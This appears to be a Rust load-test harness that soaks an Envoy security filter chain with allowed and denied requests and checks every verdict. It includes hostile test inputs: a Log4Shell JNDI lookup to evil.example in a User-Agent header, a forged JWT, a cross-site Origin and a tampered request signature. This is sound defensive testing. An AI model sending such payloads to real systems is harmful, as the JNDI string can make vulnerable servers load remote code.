//! `make soak`: one million requests (allowed and denied, every module via guard) against Envoy
//! on loopback over keep-alive connections. Every verdict is checked by the client; reports
//! wrong verdicts, unexpected 5xx, throughput and Envoy's memory at start and end.
//! Knobs: SOAK_REQUESTS (1000000), SOAK_THREADS (8).

#[path = "../../tests/support/mod.rs"]
mod support;
#[path = "../envoy/upstream.rs"]
mod upstream;

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Instant;

use portcullis::signing::{self, Message, SignRequest};

/// The signing key (inline in the soak policy; tests/request_signing.rs uses the VM env).
const SIGNING_SECRET: &str = "q83vEjRWeJASNFZ4kBI0VniQEjRWeJASNFZ4kBI0Vng=";
/// The HS256 key of the token issuer, 32 bytes.
const JWT_SECRET: &[u8] = b"soak-hs256-secret-0123456789abcd";
const API_KEY: &str = "pk_soak_live";
const ISS: &str = "https://idp.soak";

/// How a request carries its RFC 9421 signature.
#[derive(Clone, Copy, PartialEq)]
enum Sig {
    /// None at all.
    Unsigned,
    /// A fresh signature (new nonce) per request.
    Good,
    /// A fresh signature with one character of the MAC changed.
    Tampered,
}

/// One kind of request in the mix and the status the client must get.
struct Kind {
    method: &'static str,
    headers: Vec<(String, String)>,
    body: String,
    sig: Sig,
    want: u16,
}

fn hs256(claims: &serde_json::Value) -> String {
    use base64::engine::general_purpose::URL_SAFE_NO_PAD;
    use base64::Engine;
    use hmac::{KeyInit, Mac};
    let header = serde_json::json!({"alg": "HS256", "typ": "JWT", "kid": "k1"});
    let input = format!(
        "{}.{}",
        URL_SAFE_NO_PAD.encode(header.to_string()),
        URL_SAFE_NO_PAD.encode(claims.to_string())
    );
    let mut mac = hmac::Hmac::<sha2::Sha256>::new_from_slice(JWT_SECRET).expect("hmac key");
    mac.update(input.as_bytes());
    format!(
        "{input}.{}",
        URL_SAFE_NO_PAD.encode(mac.finalize().into_bytes())
    )
}

fn unix_now() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.as_secs())
}

/// Every kind of request, each allowed or denied by exactly one chain member.
fn mix() -> Vec<Kind> {
    let now = unix_now();
    // Valid for the whole soak: jwt_auth verifies it once, then answers from its cache.
    let token = hs256(
        &serde_json::json!({"iss": ISS, "sub": "soak-client", "iat": now, "exp": now + 6 * 3600}),
    );
    let forged = {
        let mut t = token.clone();
        let last = if t.ends_with('A') { 'B' } else { 'A' };
        t.pop();
        t.push(last);
        t
    };
    let h = |pairs: &[(&str, &str)]| -> Vec<(String, String)> {
        pairs
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect()
    };
    let bearer = format!("Bearer {token}");
    let bad_bearer = format!("Bearer {forged}");
    // What every allowed request carries: a token, an API key, an Origin of the site itself.
    let good = |extra: &[(&str, &str)]| {
        let mut v = h(&[
            ("authorization", &bearer),
            ("x-api-key", API_KEY),
            ("origin", "http://soak"),
        ]);
        v.extend(h(extra));
        v
    };
    let json = ("content-type", "application/json");
    let k = |method, headers, body: &str, sig, want| Kind {
        method,
        headers,
        body: body.to_string(),
        sig,
        want,
    };
    vec![
        // Allowed: reach the upstream.
        k(
            "POST",
            good(&[json]),
            r#"{"sku":"a1","qty":2}"#,
            Sig::Good,
            200,
        ),
        // A spoofed claim header: header_guard strips it, jwt_auth sets the real one.
        k("GET", good(&[("x-jwt-sub", "mallory")]), "", Sig::Good, 200),
        k(
            "PUT",
            good(&[("content-type", "application/merge-patch+json")]),
            r#"{"qty":3}"#,
            Sig::Good,
            200,
        ),
        // header_guard: Log4Shell in User-Agent; two Authorization fields (joined by the codec).
        k(
            "GET",
            good(&[("user-agent", "${jndi:ldap://evil.example/a}")]),
            "",
            Sig::Unsigned,
            400,
        ),
        k(
            "GET",
            good(&[("authorization", "Bearer x.y.z")]),
            "",
            Sig::Unsigned,
            400,
        ),
        // jwt_auth: no token; a forged signature.
        k("GET", h(&[("x-api-key", API_KEY)]), "", Sig::Unsigned, 401),
        k(
            "GET",
            h(&[("authorization", &bad_bearer), ("x-api-key", API_KEY)]),
            "",
            Sig::Unsigned,
            401,
        ),
        // api_key: no key; an unknown key.
        k(
            "GET",
            h(&[("authorization", &bearer)]),
            "",
            Sig::Unsigned,
            401,
        ),
        k(
            "GET",
            h(&[("authorization", &bearer), ("x-api-key", "pk_soak_wrong")]),
            "",
            Sig::Unsigned,
            401,
        ),
        // csrf: a POST from another site; a POST with neither Origin nor Referer.
        k(
            "POST",
            h(&[
                ("authorization", &bearer),
                ("x-api-key", API_KEY),
                ("origin", "https://evil.example"),
                json,
            ]),
            "{}",
            Sig::Unsigned,
            403,
        ),
        k(
            "POST",
            h(&[("authorization", &bearer), ("x-api-key", API_KEY), json]),
            "{}",
            Sig::Unsigned,
            403,
        ),
        // request_signing: no signature; a tampered one.
        k("GET", good(&[]), "", Sig::Unsigned, 401),
        k(
            "POST",
            good(&[json]),
            r#"{"sku":"a1","qty":2}"#,
            Sig::Tampered,
            401,
        ),
        // content_type (signed, so they get past request_signing).
        k(
            "POST",
            good(&[("content-type", "text/plain")]),
            "hello",
            Sig::Good,
            415,
        ),
        k("POST", good(&[json]), r#"{"sku":"#, Sig::Good, 400),
        k(
            "POST",
            good(&[("content-type", "application/json;charset=utf-7")]),
            "{}",
            Sig::Good,
            415,
        ),
        k("POST", good(&[json]), &"[".repeat(40), Sig::Good, 400),
    ]
}

/// The request bytes for one kind: signed now, with a fresh nonce, when it is to be signed.
fn build(kind: &Kind, secret: &[u8]) -> Vec<u8> {
    let mut headers = kind.headers.clone();
    if kind.sig != Sig::Unsigned {
        let h: Vec<(String, Vec<u8>)> = headers
            .iter()
            .map(|(k, v)| (k.clone(), v.as_bytes().to_vec()))
            .collect();
        let msg = Message {
            method: kind.method,
            scheme: "http",
            authority: "soak",
            target: "/api/orders",
            headers: &h,
        };
        let mut components = vec!["@method", "@authority", "@path", "@query"];
        if !kind.body.is_empty() {
            components.push("content-digest");
        }
        let mut req = SignRequest::new("soak-client", unix_now(), &components);
        req.nonce = signing::random_nonce();
        if let Ok(s) = signing::sign(&msg, Some(kind.body.as_bytes()), secret, &req) {
            for (k, mut v) in s.headers().into_iter().map(|(k, v)| (k.to_string(), v)) {
                if kind.sig == Sig::Tampered && k == "Signature" {
                    // `sig1=:<base64>:`: change the first character of the MAC.
                    let c = if v.as_bytes().get(6) == Some(&b'A') {
                        "B"
                    } else {
                        "A"
                    };
                    v.replace_range(6..7, c);
                }
                headers.push((k, v));
            }
        }
    }
    let mut out = format!("{} /api/orders HTTP/1.1\r\nhost: soak\r\n", kind.method);
    for (k, v) in &headers {
        out.push_str(&format!("{k}: {v}\r\n"));
    }
    out.push_str(&format!(
        "content-length: {}\r\n\r\n{}",
        kind.body.len(),
        kind.body
    ));
    out.into_bytes()
}

/// The whole chain on one route. request_signing keeps its nonce requirement: without one
/// (`require_nonce: false`) the signature value itself is single-use (docs/request-signing.md
/// "Replay protection"), so wrk-style replay of identical signed bytes would be 401
/// `signature.replayed` either way. The client signs every request afresh instead (created =
/// now, a random nonce), which also soaks the replay cache: a 60 s window and room for two
/// million nonces, far more than this client sends per window.
fn policy() -> String {
    let oct = {
        use base64::engine::general_purpose::URL_SAFE_NO_PAD;
        use base64::Engine;
        URL_SAFE_NO_PAD.encode(JWT_SECRET)
    };
    let key_hash = portcullis::controls::api_key::sha256_hex(API_KEY.as_bytes());
    serde_json::json!({
        "chain": ["header_guard", "jwt_auth", "api_key", "csrf", "request_signing", "content_type", "error_shield"],
        "header_guard": {},
        "jwt_auth": {
            "cache_entries": 1024,
            "providers": [{"name": "idp", "issuer": ISS, "algorithms": ["HS256"],
                "jwks": {"keys": [{"kty": "oct", "kid": "k1", "k": oct}]},
                "forward": {"claims": ["sub"]}}],
            "default": {}
        },
        "api_key": {"keys": [{"id": "soak", "client": "soak", "sha256": key_hash}]},
        "csrf": {},
        "request_signing": {
            "keys": [{"keyid": "soak-client", "secret": SIGNING_SECRET}],
            "window_secs": 60, "clock_skew_secs": 30, "nonce_capacity": 2_000_000
        },
        "content_type": {"default": {"allow": ["application/json", "application/*+json"], "json_max_depth": 16}},
        "error_shield": {}
    })
    .to_string()
}

struct Conn {
    addr: SocketAddr,
    stream: Option<TcpStream>,
    buf: Vec<u8>,
}

impl Conn {
    /// Send one request, return the status (reconnecting when Envoy closed the connection).
    fn exchange(&mut self, req: &[u8]) -> std::io::Result<u16> {
        if self.stream.is_none() {
            let s = TcpStream::connect(self.addr)?;
            s.set_nodelay(true)?;
            self.stream = Some(s);
            self.buf.clear();
        }
        let s = self
            .stream
            .as_mut()
            .ok_or_else(|| std::io::Error::other("no stream"))?;
        s.write_all(req)?;
        let mut chunk = [0u8; 8192];
        loop {
            if let Some(end) = self.buf.windows(4).position(|w| w == b"\r\n\r\n") {
                let head = String::from_utf8_lossy(&self.buf[..end]).to_ascii_lowercase();
                let len: usize = head
                    .lines()
                    .find_map(|l| l.strip_prefix("content-length:"))
                    .and_then(|v| v.trim().parse().ok())
                    .unwrap_or(0);
                if self.buf.len() >= end + 4 + len {
                    let status = head
                        .split(' ')
                        .nth(1)
                        .and_then(|v| v.parse().ok())
                        .unwrap_or(0);
                    self.buf.drain(..end + 4 + len);
                    if head.contains("connection: close") {
                        self.stream = None;
                    }
                    return Ok(status);
                }
            }
            let n = s.read(&mut chunk)?;
            if n == 0 {
                self.stream = None;
                return Err(std::io::Error::other("closed"));
            }
            self.buf.extend_from_slice(&chunk[..n]);
        }
    }
}

fn main() {
    let total: u64 = std::env::var("SOAK_REQUESTS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(1_000_000);
    let threads: u64 = std::env::var("SOAK_THREADS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(8);
    let up = upstream::FastUpstream::start();
    let e = support::envoy()
        .upstream(up.addr)
        .cpu(0)
        .wasm("guard", policy())
        .start();
    let rss_start = e.rss_kib().unwrap_or(0);
    let mix = Arc::new(mix());
    let per_kind: Arc<Vec<AtomicU64>> =
        Arc::new((0..mix.len()).map(|_| AtomicU64::new(0)).collect());
    let secret = Arc::new(signing::decode_secret(SIGNING_SECRET).unwrap_or_default());
    let (sent, wrong, unexpected_5xx, io_errors) = (
        Arc::new(AtomicU64::new(0)),
        Arc::new(AtomicU64::new(0)),
        Arc::new(AtomicU64::new(0)),
        Arc::new(AtomicU64::new(0)),
    );
    let started = Instant::now();
    let handles: Vec<_> = (0..threads)
        .map(|t| {
            let (mix, secret, per_kind, sent, wrong, five, io) = (
                mix.clone(),
                secret.clone(),
                per_kind.clone(),
                sent.clone(),
                wrong.clone(),
                unexpected_5xx.clone(),
                io_errors.clone(),
            );
            let addr = e.listener;
            std::thread::spawn(move || {
                let mut c = Conn {
                    addr,
                    stream: None,
                    buf: Vec::new(),
                };
                let mut i = t as usize;
                while sent.fetch_add(1, Ordering::Relaxed) < total {
                    let kind = &mix[i % mix.len()];
                    i += 1;
                    match c.exchange(&build(kind, &secret)) {
                        Ok(got) if got == kind.want => {}
                        Ok(got) => {
                            wrong.fetch_add(1, Ordering::Relaxed);
                            let k = (i - 1) % mix.len();
                            if per_kind[k].fetch_add(1, Ordering::Relaxed) == 0 {
                                eprintln!(
                                    "kind {k} ({} {:?}): got {got}, want {}",
                                    mix[k].method,
                                    mix[k].headers.iter().map(|h| &h.0).collect::<Vec<_>>(),
                                    mix[k].want
                                );
                            }
                            if got >= 500 {
                                five.fetch_add(1, Ordering::Relaxed);
                            }
                        }
                        // A connection Envoy closed between requests: count, reconnect, retry.
                        Err(_) => {
                            io.fetch_add(1, Ordering::Relaxed);
                            sent.fetch_sub(1, Ordering::Relaxed);
                        }
                    }
                }
            })
        })
        .collect();
    for h in handles {
        let _ = h.join();
    }
    let secs = started.elapsed().as_secs_f64();
    let rss_end = e.rss_kib().unwrap_or(0);
    let report = format!(
        "soak: {total} requests in {secs:.1} s ({:.0} req/s) through guard [header_guard, jwt_auth, api_key, csrf, request_signing, content_type, error_shield], {} request kinds\n\
         wrong verdicts: {}\nunexpected 5xx: {}\nreconnects after a closed connection: {}\n\
         Envoy RSS: {:.1} MiB at start, {:.1} MiB at end\n",
        total as f64 / secs,
        mix.len(),
        wrong.load(Ordering::Relaxed),
        unexpected_5xx.load(Ordering::Relaxed),
        io_errors.load(Ordering::Relaxed),
        rss_start as f64 / 1024.0,
        rss_end as f64 / 1024.0,
    );
    print!("{report}");
    let out = support::repo_root().join("bench");
    let _ = std::fs::create_dir_all(&out);
    let _ = std::fs::write(out.join("soak.txt"), &report);
    assert_eq!(wrong.load(Ordering::Relaxed), 0, "wrong verdicts");
}
